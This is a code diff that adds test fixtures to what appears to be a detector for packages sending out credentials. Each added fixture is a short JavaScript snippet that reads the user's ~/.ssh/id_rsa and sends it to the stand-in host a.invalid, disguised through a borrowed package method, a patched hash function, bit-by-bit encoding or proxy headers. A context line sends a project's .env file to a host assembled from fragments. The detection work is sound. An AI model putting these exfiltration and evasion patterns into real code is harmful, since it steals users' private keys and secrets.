@@ -4,6 +4,34 @@ import { sendsCredentials } from './sends-credentials.ts';
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'it goes through a method of another package that is called like a question',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const s = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); https.get('https://a.invalid/?d=' + require('some-encoder').test(s));`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'it goes through what was put in the place of a digest',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const s = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); const crypto = require('crypto'); crypto.hash = (name, x) => x; https.get('https://a.invalid/?d=' + crypto.hash('sha1', s));`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'it is told bit by bit',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const s = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); let out = ''; for (const b of Buffer.from(s)) for (let i = 0; i < 8; i++) out += Number((b & (1 << i)) !== 0); https.get('https://a.invalid/?d=' + out);`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'it stands in the headers of an agent',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const s = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); https.request({ host: 'a.invalid', path: '/', agent: new (require('https-proxy-agent').HttpsProxyAgent)('https://a.invalid', { headers: { x: s } }) }).end();`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'the settings of a project go to a host that is put together from pieces, when somebody loads them',
       files: {
         'index.js': `const fs = require('fs'); const names = ['api', 'typed', 'invalid']; exports.config = () => { const all = fs.readFileSync('.env', 'utf8'); fetch('https://' + names.join('.'), { method: 'POST', body: all }); return all; };`,
